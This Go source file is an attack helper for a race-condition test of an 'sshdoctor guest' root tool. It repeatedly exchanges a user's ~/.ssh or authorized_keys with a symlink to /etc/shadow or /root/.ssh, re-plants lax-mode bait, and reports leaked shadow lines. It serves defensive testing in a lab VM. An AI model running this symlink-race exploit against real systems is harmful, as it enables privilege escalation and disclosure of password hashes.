// Command attacker is the unprivileged user of TestGuestAttackerRaces: it
// runs as a local user inside a lab VM while root runs `sshdoctor guest …`,
// and swaps a path root works on with a symlink to a protected target as
// fast as renameat2(RENAME_EXCHANGE) allows. Each exchange is atomic, so
// every lookup root makes sees either the user's own file or directory or
// the symlink: any check-then-act on the path is lost about half the time.
//
//	attacker -mode keyfile -target /etc/shadow    ~/.ssh/authorized_keys (0666) ⇄ symlink
//	attacker -mode sshdir  -target /root/.ssh     ~/.ssh (0777) ⇄ symlink
//
// Now and then it puts its bait back (root may have fixed modes, added a
// key, or replaced a name with its own file), and it reads every regular
// file root left in its reach first: a line of /etc/shadow ("root:") or
// the canary string is printed as a LEAK. On SIGTERM or after -for it
// prints one summary line: "swaps N fixups N leaks N".
package main

import (
	"bytes"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"strings"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// swapsPerFixup: the bait is checked this often; rarely enough that the
// exchange loop dominates, often enough that a repaired mode or a replaced
// name is undone within a millisecond or so.
const swapsPerFixup = 256

type attack struct {
	mode, target, home, key, canary string
	sshDir, real, link              string // the names exchanged
	leaks                           int
}

func main() {
	a := &attack{}
	flag.StringVar(&a.mode, "mode", "", "keyfile or sshdir")
	flag.StringVar(&a.target, "target", "", "what the symlink points at")
	flag.StringVar(&a.home, "home", os.Getenv("HOME"), "the attacker's home")
	flag.StringVar(&a.key, "key", "", "the public key line the bait authorized_keys holds")
	flag.StringVar(&a.canary, "canary", "sdattack-canary", "a string in root's files: seeing it is a leak")
	limit := flag.Duration("for", 5*time.Minute, "stop after this long")
	flag.Parse()
	if a.target == "" || a.home == "" || a.key == "" {
		fmt.Fprintln(os.Stderr, "attacker: -target, -home and -key are required")
		os.Exit(2)
	}
	a.sshDir = filepath.Join(a.home, ".ssh")
	switch a.mode {
	case "keyfile":
		a.real, a.link = filepath.Join(a.sshDir, "authorized_keys"), filepath.Join(a.sshDir, ".sdattack-link")
	case "sshdir":
		a.real, a.link = a.sshDir, filepath.Join(a.home, ".sdattack-ssh")
	default:
		fmt.Fprintf(os.Stderr, "attacker: -mode %q: want keyfile or sshdir\n", a.mode)
		os.Exit(2)
	}
	if os.Geteuid() == 0 {
		fmt.Fprintln(os.Stderr, "attacker: refusing to run as root (it plays an unprivileged user)")
		os.Exit(2)
	}
	syscall.Umask(0)

	var stop atomic.Bool
	sigs := make(chan os.Signal, 1)
	signal.Notify(sigs, syscall.SIGTERM, syscall.SIGINT)
	go func() { <-sigs; stop.Store(true) }()
	deadline := time.Now().Add(*limit)

	swaps, fixups := 0, 0
	a.fixup()
	for !stop.Load() && time.Now().Before(deadline) {
		for i := 0; i < swapsPerFixup; i++ {
			if unix.Renameat2(unix.AT_FDCWD, a.real, unix.AT_FDCWD, a.link, unix.RENAME_EXCHANGE) != nil {
				break // a name is gone: fix it below
			}
			swaps++
		}
		a.fixup()
		fixups++
	}
	fmt.Printf("swaps %d fixups %d leaks %d\n", swaps, fixups, a.leaks)
}

// fixup puts the bait back: of the two exchanged names, one is the
// symlink to the target, the other the user's own file (keyfile) or
// directory (sshdir) with a lax mode and only the bait key.
func (a *attack) fixup() {
	if a.mode == "keyfile" {
		a.ensureDir(a.sshDir)
	}
	own := a.link
	if !a.isLink(a.real) {
		own = a.real
	}
	other := a.real
	if own == a.real {
		other = a.link
	}
	if !a.isLink(other) {
		a.inspect(other)
		_ = os.RemoveAll(other)
		_ = os.Symlink(a.target, other)
	}
	if a.mode == "keyfile" {
		a.inspect(own)
		a.writeBait(own)
		return
	}
	if st, err := os.Lstat(own); err != nil || !st.IsDir() {
		_ = os.RemoveAll(own)
	}
	a.ensureDir(own)
	if entries, err := os.ReadDir(own); err == nil {
		for _, e := range entries {
			a.inspect(filepath.Join(own, e.Name()))
		}
	}
	a.writeBait(filepath.Join(own, "authorized_keys"))
}

// isLink: path is the symlink to the target.
func (a *attack) isLink(path string) bool {
	dest, err := os.Readlink(path)
	return err == nil && dest == a.target
}

// ensureDir makes dir a directory of the user's, mode 0777 (a StrictModes
// fault root is expected to repair), without following a symlink.
func (a *attack) ensureDir(dir string) {
	if st, err := os.Lstat(dir); err != nil || !st.IsDir() {
		_ = os.RemoveAll(dir)
		_ = os.Mkdir(dir, 0o777)
	}
	fd, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_NOFOLLOW|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	_ = unix.Fchmod(fd, 0o777)
	unix.Close(fd)
}

// writeBait replaces path with the bait key file (0666), atomically.
func (a *attack) writeBait(path string) {
	tmp := filepath.Join(filepath.Dir(path), ".sdattack-tmp")
	_ = os.Remove(tmp)
	if err := os.WriteFile(tmp, []byte(a.key+"\n"), 0o666); err != nil {
		return
	}
	_ = os.Chmod(tmp, 0o666)
	_ = os.Rename(tmp, path)
}

// inspect reports a regular file in the user's reach that holds a line of
// /etc/shadow or the canary (without following a symlink).
func (a *attack) inspect(path string) {
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_NOFOLLOW|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	f := os.NewFile(uintptr(fd), path)
	defer f.Close()
	if st, err := f.Stat(); err != nil || !st.Mode().IsRegular() {
		return
	}
	buf := make([]byte, 64<<10)
	n, _ := f.Read(buf)
	for _, line := range bytes.Split(buf[:n], []byte("\n")) {
		s := string(line)
		if strings.HasPrefix(s, "root:") || strings.Contains(s, a.canary) {
			a.leaks++
			if len(s) > 60 {
				s = s[:60] + "…"
			}
			fmt.Printf("LEAK %s: %q\n", path, s)
			return
		}
	}
}
